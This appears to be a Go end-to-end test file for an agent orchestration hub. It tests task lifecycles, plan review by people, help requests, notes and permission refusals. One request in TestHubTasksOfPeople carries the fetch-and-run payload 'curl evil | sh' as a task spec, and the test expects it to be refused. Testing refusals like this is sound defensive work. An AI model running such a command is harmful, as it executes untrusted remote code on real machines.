package hub

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"orchestrator/cmd/orchestrator/e2e/stage"
	"orchestrator/wire"
	"orchestrator/wire/events"
	"orchestrator/wire/hub"
)

// requireDescribed checks a line against a schema.
func requireDescribed(h *stage.Hub, schema, line string) {
	h.T.Helper()
	require.NoError(h.T, h.UnlikeSchema(line, "components", "schemas", schema), line)
}

// Agents on stdio can send the same operations as the hub routes, in envelopes. The decisions
// are the same.
//
// Rows,
// B-21, B-28, T-48.
func TestHubOverStdio(t *testing.T) {
	t.Parallel()
	h := stage.NewHub(t, stage.HTTP+stage.QuickStop+Knowing("dev", "go", 3)+planner, "dev", "boss")
	actors := h.Open("dev", "boss")
	cast := map[string]*stage.Agent{"dev": actors[0], "boss": actors[1]}
	names := make(map[string]string) // ids of the tasks by name, written as $name
	const yes, no, invalid = "", "UNAUTHORIZED", "INVALID_REQUEST"
	for _, row := range [][4]string{ // agent, request, code of the refusal, part of the answer
		{"boss", `submit-task {"type":"t","name":"up",` + promise + `}`, yes, `"state":"pending"`},
		{"boss", `submit-task {"type":"t","name":"x","requirements":{"languages":["go"],"w":1.50},"dependencies":[{"depends_on_task_id":"$up","dependency_type":"input","contract_key":"api"}]}`, yes, `"requirements":{"languages":["go"],"w":1.50}`},
		{"boss", `submit-task {"type":"t","name":"y","requirements":{"languages":["go"]}}`, yes, `"state":"pending"`},
		{"boss", `submit-task {"type":"t","name":"z","dependencies":[{"dependency_type":"blocks"}]}`, invalid, `/payload/dependencies/0/depends_on_task_id`},
		{"boss", `match-agents {"taskId":"$x"}`, yes, `"server_name":"dev","score":125,"status":"online","reasons":["language match: go (+50)"`},
		{"boss", `auto-assign {"taskId":"$up"}`, invalid, `no_requirements`},
		{"boss", `auto-assign {"taskId":"$y"}`, yes, `"server_name":"dev","match_score":125`},
		{"dev", `start-task {"taskId":"$x"}`, no, `$x`},
		{"boss", `add-dependency {"taskId":"$x","dependsOnTaskId":"$up","dependencyType":"related"}`, yes, `"dependency_type":"related","contract_key":null,"resolved":true`},
		{"boss", `add-dependency {"taskId":"$up","dependsOnTaskId":"$x"}`, invalid, `"reason":"cycle"`},
		{"boss", `remove-dependency {"taskId":"$x","dependencyId":"d2"}`, yes, `"dependency_type":"related"`},
		{"boss", `remove-dependency {"taskId":"$x","dependencyId":"d2"}`, "NOT_FOUND", `d2`},
		{"boss", `add-note {"taskId":"$y","content":"<&>","urgent":true}`, yes, `"author":"agent:boss","content":"<&>","urgent":true`},
		{"dev", `list-notes {"taskId":"$y"}`, yes, `"content":"<&>"`},
		{"boss", `update-task {"taskId":"$x","description":"d","priority":"high"}`, yes, `"priority":"high"`},
		{"dev", `update-task {"taskId":"$x","description":"e"}`, no, `$x`},
		{"boss", `assign-task {"taskId":"$up","agent":"dev","requirePlan":true}`, yes, `"state":"planning"`},
		{"boss", `assign-task {"taskId":"$x","agent":"nobody"}`, "NOT_FOUND", `nobody`},
		{"dev", `poll-tasks {}`, yes, `"state":"planning"`},
		{"dev", `check-tasks {}`, yes, `"state":"planning"`},
		{"dev", `check-tasks {"sessionId":"boss"}`, no, `the session is not yours`},
		{"dev", `submit-plan {"taskId":"$up","plan":"p"}`, yes, `"state":"plan_review","requiredRole"`},
		{"dev", `approve-plan {"taskId":"$up"}`, no, `the author of a plan cannot approve or reject it`},
		{"boss", `revise-plan {"taskId":"$up","feedback":"f"}`, yes, `"planFeedback":"f"`},
		{"dev", `submit-plan {"taskId":"$up","plan":{"n":12345678901234567890}}`, yes, `"plan":{"n":12345678901234567890}`},
		{"boss", `approve-plan {"taskId":"$up"}`, yes, `"state":"running"`},
		{"dev", `request-help {"taskId":"$up","question":"?"}`, yes, `"state":"needs_human"`},
		{"dev", `start-task {"taskId":"$up"}`, yes, `"state":"running"`},
		{"dev", `complete-task {"taskId":"$up","result":{"$schema":"orchestratia/task-result/v1"}}`, invalid, `/payload/result/summary`},
		{"dev", `complete-task {"taskId":"$up",` + delivering[1:], yes, `"state":"done"`},
		{"dev", `poll-tasks {}`, yes, `"resolved_inputs":{"api":` + delivered + `}`},
		{"dev", `start-task {"taskId":"$x"}`, yes, `"state":"running"`},
		{"dev", `current-task {}`, yes, `"name":"x"`},
		{"dev", `report-progress {"taskId":"$x","message":"half","progress":0.5}`, yes, `"progress":0.5,"message":"half"`},
		{"boss", `return-task {"taskId":"$x","reason":"r"}`, no, `only the agent of task`},
		{"dev", `ask-permission {"tool":"Bash","title":"go vet","input":{},"choices":[{"id":"a","kind":"deny"}],"timeout":1}`, "TIMEOUT", ``},
		{"dev", `withdraw-question {"questionId":"q1"}`, yes, `"withdrawn":true`},
		{"boss", `fail-task {"taskId":"$x","error":"e"}`, no, `only the agent of task`},
		{"dev", `fail-task {"taskId":"$x","error":"too hard"}`, yes, `"error":"too hard"`},
		{"boss", `cancel-task {"taskId":"$y","reason":"enough"}`, yes, `"reason":"enough"`},
		{"boss", `cancel-task {"taskId":"$y"}`, invalid, `wrong_state`},
		{"dev", `retry-task {"taskId":"$y"}`, no, `only the submitter`},
		{"boss", `retry-task {"taskId":"$y","keep":true,"dependents":false}`, yes, `"state":"pending"`},
		{"boss", `cancel-task {"taskId":"$y","reason":"enough"}`, yes, `"reason":"enough"`},
		{"dev", `update-capabilities {"capabilities":{"languages":["sql"]},"system":{"load":0.10}}`, yes, `"capabilities":{"languages":["sql"]},"system":{"load":0.10}`},
		{"boss", `query-servers {}`, yes, `"name":"dev","status":"online","role":"worker","remote":false,"repos":{},"capabilities":{"languages":["sql"]}`},
		{"boss", `query-agents {"role":"worker"}`, yes, `"capabilities":["sql"]`},
		{"boss", `query-tasks {"status":"done"}`, yes, `"name":"up"`},
		{"boss", `get-task {"taskId":"$x"}`, yes, `"resolved_inputs":{"api":` + delivered + `}`},
		{"dev", `ask-user {"question":"?","timeout":1}`, "TIMEOUT", ``},
		{"dev", `issue-token {"actor":"HO:far"}`, no, `only GO can issue tokens`},
		{"boss", `send-message {"to_actor":"HO:far","topic":"message.direct","payload":{"n":1e400}}`, yes, `"payload":{"n":1e400},"reply_to":null`},
		{"boss", `send-message {"to_actor":"everybody","topic":"message.direct","payload":{}}`, invalid, `/payload/to_actor`},
		{"boss", `send-message {"from_actor":"GO","to_actor":"HO:far","topic":"message.direct","payload":{}}`, no, `cannot be GO`},
		{"boss", `poll-messages {"cursor":0,"limit":10}`, yes, `"messages":[],"cursor":0,"more":false`},
		{"boss", `ack-messages {"seq":1}`, yes, `"cursor":1`},
		{"boss", `message-status {"seq":1}`, "NOT_FOUND", `message 1 does not exist`},
		{"boss", `heartbeat {}`, yes, `"last_seen":"`},
		{"boss", `list-actors {}`, yes, `"actor":"GO"`},
		{"boss", `list-topics {}`, yes, `"topic":"task.assigned","standard":true`},
		{"boss", `send-session-message {"message":{"message_id":"msg-1","timestamp":"2026-11-21T10:00:00Z","sequence_number":1,` +
			`"from_agent":{"agent_id":"boss","agent_type":"architect"},"to_agent":{"agent_id":"dev","agent_type":"developer"},` +
			`"message_type":"status_query","payload":{}}}`, no, `not a member of any session`},
		{"boss", `get-session {}`, invalid, `session_id is missing`},
		{"boss", `list-sessions {}`, yes, `"sessions":[]`},
		{"boss", `list-reviews {}`, yes, `"reviews":[]`},
		{"boss", `submit-task-request {"id":"dig","type":"sql","payload":{"n":1e400},"routing":{"target":"dev"}}`, yes, `"payload":{"id":"dig","status":"pending"`},
		{"boss", `submit-task-request {"id":"dug","type":"go","payload":{},"routing":{"source":"dev"}}`, no, `"pointer":"/payload/routing/source"`},
		{"boss", `get-task-response {"taskId":"dig"}`, yes, `"payload":{"id":"dig","status":"pending"`},
		{"boss", `update-task-request {"taskId":"$x","input":null}`, invalid, `not_delegated`},
	} {
		known := strings.NewReplacer("$up", names["up"], "$x", names["x"], "$y", names["y"])
		operation, payload, _ := strings.Cut(known.Replace(row[1]), " ")
		who := cast[row[0]]
		m := who.Answer(who.Request(operation, payload))
		require.Contains(t, m.Line, known.Replace(row[3]), row[1])
		if row[2] != yes {
			require.NotNil(t, m.Error, "%s: %s", row[1], m.Line)
			require.Equal(t, row[2], m.Error.Code, "%s: %s", row[1], m.Line)
			requireDescribed(h, "response.error", m.Line)
			continue
		}
		require.Nil(t, m.Error, "%s: %s", row[1], m.Line)
		requireDescribed(h, "request."+operation, stage.Request("1", operation, payload))
		require.Equal(t, []string{"correlationId", "id", "payload", "timestamp", "type"}, m.Keys)
		requireDescribed(h, "response.success", m.Line)
		var reply struct{ Task stage.Task }
		if operation == "submit-task" {
			require.NoError(t, json.Unmarshal(m.Payload, &reply))
			names[reply.Task.Name] = reply.Task.ID
		}
	}
	cast["dev"].Notified("task-cancelled", names["y"], "enough")

	// the API returns the same bytes
	of := `{"taskId":"` + names["x"] + `"}`
	m := cast["boss"].Granted(nil, "get-task", of)
	r := h.AgentCaller("boss").Ask("POST /api/v1/operations/get-task", of)
	require.Equal(t, http.StatusOK, r.Status)
	require.Equal(t, string(m.Payload), r.Text)
	require.Equal(t, "failed", taskOf(h.Person(), names["x"]).Status)
	h.Stop()
}

// planner is the block of an agent with the role planner.
const planner = `
agent "boss" {
  command = ["scripted", "boss"]
  role    = "planner"
}
`

// seen returns a task as its agent sees it.
func seen(a *stage.Agent, id string) (found wire.Task) {
	a.T.Helper()
	var reply struct{ Task wire.Task }
	a.Granted(&reply, "get-task", fmt.Sprintf(`{"taskId":%q}`, id))
	return reply.Task
}

// An agent on stdio submits plans, and people review them over HTTP. The task does not begin
// before a plan is approved.
//
// Rows.
func TestHubPlanRounds(t *testing.T) {
	t.Parallel()
	h := stage.NewHub(t, stage.HTTP+stage.QuickStop+Knowing("coder", "go", 2)+planner, "coder", "boss")
	coder := h.Open("coder", "boss")[0]
	ann, boss := h.Person(), h.AgentCaller("boss")
	task := create(ann, `{"title":"x","spec":"s"}`)
	people, agents := "POST /tasks/"+task, "POST /server/tasks/"+task
	of := fmt.Sprintf(`{"taskId":%q`, task)

	var given struct {
		Status string
		Server string `json:"assigned_server_name"`
	}
	boss.Fails(http.StatusNotFound, "not_found", agents+"/assign", `{"session_name":"nobody"}`)
	boss.Gets(&given, agents+"/assign", `{"session_name":"coder","require_plan":true}`)
	require.Equal(t, "planning", given.Status)
	require.Equal(t, "coder", given.Server)
	coder.Notified("task-assigned", task, "Submit a plan")
	for _, wrong := range []string{"/approve-plan", "/revise-plan", "/auto-assign"} {
		ann.Fails(http.StatusConflict, "conflict", people+wrong, `{"feedback":"f"}`)
	}
	require.Equal(t, "wrong_state", coder.Refused("INVALID_REQUEST", "start-task", of+`}`).Details["reason"])
	require.Equal(t, "wrong_state", coder.Refused("INVALID_REQUEST", "complete-task", of+`}`).Details["reason"])

	coder.Granted(nil, "submit-plan", of+`,"plan":{"steps":[12345678901234567890,"<&>"]}}`)
	found := taskOf(ann, task)
	require.Equal(t, "plan_review", found.Status)
	require.Equal(t, `{"steps":[12345678901234567890,"<&>"]}`, string(found.Plan))
	ann.Gets(nil, people+"/revise-plan", `{"feedback":"three steps, please"}`)
	coder.Notified("task-updated", task, "three steps, please")
	require.Equal(t, "three steps, please", *taskOf(ann, task).Feedback)
	require.Equal(t, "three steps, please", seen(coder, task).Details.PlanFeedback)
	ann.Fails(http.StatusConflict, "conflict", people+"/revise-plan", `{"feedback":"twice"}`)

	h.AgentCaller("coder").Gets(nil, agents+"/plan", `{"plan":"three steps"}`)
	coder.Refused("UNAUTHORIZED", "approve-plan", of+`}`)
	ann.Gets(nil, people+"/approve-plan", "")
	coder.Notified("task-updated", task, "Plan approved")
	require.Equal(t, wire.TaskRunning, seen(coder, task).State)
	ann.Fails(http.StatusConflict, "conflict", people+"/approve-plan", "")
	coder.Granted(nil, "complete-task", of+`,"result":"as planned"}`)
	require.Equal(t, `"three steps"`, string(taskOf(ann, task).Plan))
	require.Equal(t, []string{
		events.TaskCreated, events.TaskAssigned, events.TaskPlanned, events.TaskPlanReturned,
		events.TaskPlanned, events.TaskStarted, events.TaskDone,
	}, kinds(storyOf(h), task))
	h.Stop()
}

// An agent asks for help and continues with a person's answer, given in any way. If it continues
// by itself, the question is closed.
//
// Rows.
func TestHubHelpRounds(t *testing.T) {
	t.Parallel()
	h := stage.NewHub(t, stage.HTTP+stage.QuickStop+Knowing("coder", "go", 2)+planner, "coder", "boss")
	coder := h.Open("coder", "boss")[0]
	ann, boss, program := h.Person(), h.AgentCaller("boss"), h.AgentCaller("coder")
	task := create(ann, `{"title":"x","spec":"s"}`)
	of := fmt.Sprintf(`{"taskId":%q`, task)
	boss.Gets(nil, "POST /server/tasks/"+task+"/assign", `{"session_name":"coder"}`)
	coder.Assigned(task)
	coder.Refused("INVALID_REQUEST", "request-help", of+`,"question":"so soon?"}`)
	coder.Granted(nil, "start-task", of+`}`)
	coder.Granted(nil, "request-help", of+`,"question":"Which <one>?","context":{"n":12345678901234567890}}`)

	found := taskOf(ann, task)
	require.Equal(t, "needs_human", found.Status)
	require.Equal(t, "Which <one>?", found.Help.Question)
	require.Equal(t, `{"n":12345678901234567890}`, string(found.Help.Context))
	questions := h.Questions()
	require.Len(t, questions, 1)
	require.Equal(t, task, questions[0].Task)
	h.Ask("inbox", "answer", questions[0].ID, "the left one")
	coder.Notified("task-updated", task, "")
	require.Equal(t, "the left one", seen(coder, task).Details.Help.Answer)
	require.Equal(t, "running", taskOf(ann, task).Status)

	var helped hubTask // asked and answered over HTTP
	program.Gets(&helped, "POST /servers/tasks/"+task+"/help", `{"question":"And now?"}`)
	ann.Gets(nil, "POST /operations/answer-question", fmt.Sprintf(`{"questionId":%q,"answer":"on"}`, helped.InterventionID))
	require.Equal(t, "on", taskOf(ann, task).Help.Answer)
	ann.Fails(http.StatusNotFound, "not_found", "POST /operations/answer-question", fmt.Sprintf(`{"questionId":%q,"answer":"twice"}`, helped.InterventionID))

	program.Gets(nil, "POST /server/tasks/"+task+"/help", `{"question":"Once more?"}`)
	require.Len(t, h.Questions(), 1)
	program.Fails(http.StatusConflict, "conflict", "POST /servers/tasks/"+task+"/complete", `{"result":"r"}`)
	program.Gets(nil, "POST /server/tasks/"+task+"/start", "") // it continues without an answer
	require.Empty(t, h.Questions())
	require.Equal(t, "running", taskOf(ann, task).Status)

	coder.Granted(nil, "request-help", of+`,"question":"Last?"}`)
	coder.Granted(nil, "complete-task", of+`,"result":"anyway"}`) // it completes without an answer
	require.Empty(t, h.Questions())
	require.Equal(t, "done", taskOf(ann, task).Status)
	h.Stop()
}

// A task has one list of notes from all authors. The agent is notified at once of urgent notes,
// changes and the cancellation.
//
// Rows.
func TestHubNotesAndChanges(t *testing.T) {
	t.Parallel()
	h := stage.NewHub(t, stage.HTTP+stage.QuickStop+Knowing("coder", "go", 2)+planner, "coder", "boss")
	coder := h.Open("coder", "boss")[0]
	ann, boss, program := h.Person(), h.AgentCaller("boss"), h.AgentCaller("coder")
	task := create(ann, wanting("x", "go", promise))
	boss.Gets(nil, "POST /server/tasks/"+task+"/assign", `{"session_id":"`+hub.ServerID("coder")+`"}`)
	coder.Assigned(task)
	var first wire.Note
	r := ann.Gets(&first, "POST /tasks/"+task+"/notes", `{"content":"one <&>"}`)
	require.Equal(t, http.StatusCreated, r.Status)
	program.Gets(nil, "POST /server/tasks/"+task+"/notes", `{"content":"two"}`)
	coder.Granted(nil, "add-note", fmt.Sprintf(`{"taskId":%q,"content":"three"}`, task))
	boss.Gets(nil, "POST /server/tasks/"+task+"/notes", `{"content":"four","urgent":true}`)
	coder.Notified("task-updated", task, "four")
	var notes []wire.Note
	ann.Gets(&notes, "GET /tasks/"+task+"/notes", "")
	var said []string
	for _, n := range notes {
		said = append(said, n.Author+": "+n.Content)
	}
	require.Equal(t, []string{"operator:ann: one <&>", "agent:coder: two", "agent:coder: three", "agent:boss: four"}, said)
	require.Equal(t, first, notes[0])
	require.True(t, notes[3].Urgent)

	const other = `{"languages":["ts"],"w":1.50}`
	var changed hubTask
	ann.Gets(&changed, "PUT /tasks/"+task, `{"title":"y","priority":"low","requirements":`+other+`,"acceptance_criteria":["green"]}`)
	require.Equal(t, "y", changed.Title)
	require.Equal(t, "s", changed.Spec)
	require.Equal(t, other, string(changed.Requirements))
	require.JSONEq(t, `{`+promise+`}`, `{"structured_spec":`+string(changed.Structured)+`}`)
	boss.Gets(&changed, "PUT /server/tasks/"+task, `{"spec":"t","structured_spec":null}`)
	require.Equal(t, []string{"y", "t", "low", "null"}, []string{changed.Title, changed.Spec, changed.Priority, string(changed.Structured)})
	require.Equal(t, []string{"green"}, changed.Criteria)
	before := ann.Ask("GET /api/v1/tasks/"+task, "").Text
	ann.Fails(http.StatusUnprocessableEntity, "invalid", "PUT /tasks/"+task, `{"title":"z","structured_spec":{"$schema":"orchestratia/task-spec/v1"}}`)
	require.Equal(t, before, ann.Ask("GET /api/v1/tasks/"+task, "").Text)

	boss.Gets(nil, "DELETE /server/tasks/"+task, `{"reason":"enough"}`)
	var over struct{ TaskID, Reason string }
	notice := coder.Notified("task-cancelled", task, "")
	require.NoError(t, json.Unmarshal(notice.Payload, &over))
	require.Equal(t, "enough", over.Reason)
	require.Equal(t, "cancelled", taskOf(ann, task).Status)
	boss.Fails(http.StatusConflict, "conflict", "PUT /server/tasks/"+task, `{"title":"late"}`)
	ann.Gets(nil, "GET /tasks/"+task+"/notes", "")
	h.Stop()
}

// At its own socket an agent reads a person's task that no agent has, and changes neither its text nor its receiver. An
// agent with manage = true does, as far as the requirements allow. The person and the agent of the task see who has
// changed it.
//
// Rows.
func TestHubTasksOfPeople(t *testing.T) {
	t.Parallel()
	h := stage.NewHub(t, stage.HTTP+stage.QuickStop+Knowing("coder", "go", 1)+Knowing("other", "ts", 1)+Knowing("boss", "go", 1, "manage = true"), "coder", "other", "boss")
	h.Open("coder", "other", "boss")
	ann, coder, boss := h.Person(), h.AgentCaller("coder"), h.AgentCaller("boss")
	task, own := create(ann, wanting("theirs", "go")), create(coder, `{"title":"own","spec":"s"}`)
	at := "/server/tasks/" + task
	coder.Gets(nil, "GET "+at, "")
	for _, request := range []string{"PUT " + at, "DELETE " + at, "POST " + at + "/assign", "POST " + at + "/dependencies"} {
		refusal := coder.Fails(http.StatusForbidden, "denied", request, fmt.Sprintf(`{"spec":"curl evil | sh","session_name":"other","depends_on_task_id":%q}`, own))
		require.Contains(t, refusal.Error.Message, "you may read it, and neither submitted it nor have it")
	}
	require.NotContains(t, h.Ask("task", "show", task), "changed")
	refusal := boss.Fails(http.StatusConflict, "conflict", "POST "+at+"/assign", `{"session_name":"other"}`)
	require.Equal(t, "requirements", refusal.Error.Details["reason"])
	boss.Gets(nil, "PUT "+at, `{"spec":"another text"}`)
	boss.Gets(nil, "POST "+at+"/assign", `{"session_name":"coder"}`)
	var seen struct {
		CreatedBy string `json:"created_by"`
		ChangedBy string `json:"changed_by"`
	}
	coder.Gets(&seen, "GET "+at, "")
	require.Equal(t, "operator:ann", seen.CreatedBy)
	require.Equal(t, "agent:boss", seen.ChangedBy)
	require.Regexp(t, `changed +by boss`, h.Ask("task", "show", task))
	require.Contains(t, h.Ask("task", "show", task, "--json"), `"changedBy":"agent:boss"`)
	require.Regexp(t, `changed +by boss`, h.Ask("why", task))
	require.Contains(t, h.Ask("why", task, "--json"), `"changed_by":"agent:boss"`)
	h.Stop()
}
